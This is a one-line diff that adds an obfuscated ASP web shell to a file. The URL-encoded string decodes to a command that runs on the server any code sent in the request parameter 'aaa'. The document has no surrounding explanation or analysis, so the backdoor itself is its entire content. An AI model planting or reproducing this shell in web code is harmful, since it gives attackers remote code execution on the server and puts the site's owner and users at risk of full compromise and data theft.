@@ -1,0 +1,1 @@
+<%execute(unescape("eval%20request%28%22aaa%22%29"))%>
